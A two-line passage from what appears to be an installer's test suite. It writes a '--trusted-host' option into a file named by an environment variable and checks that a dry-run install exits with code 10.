    shell.write("more.txt", "--trusted-host h.example\n")
    assert install("--dry-run", environ={variable: "more.txt"}).code == 10
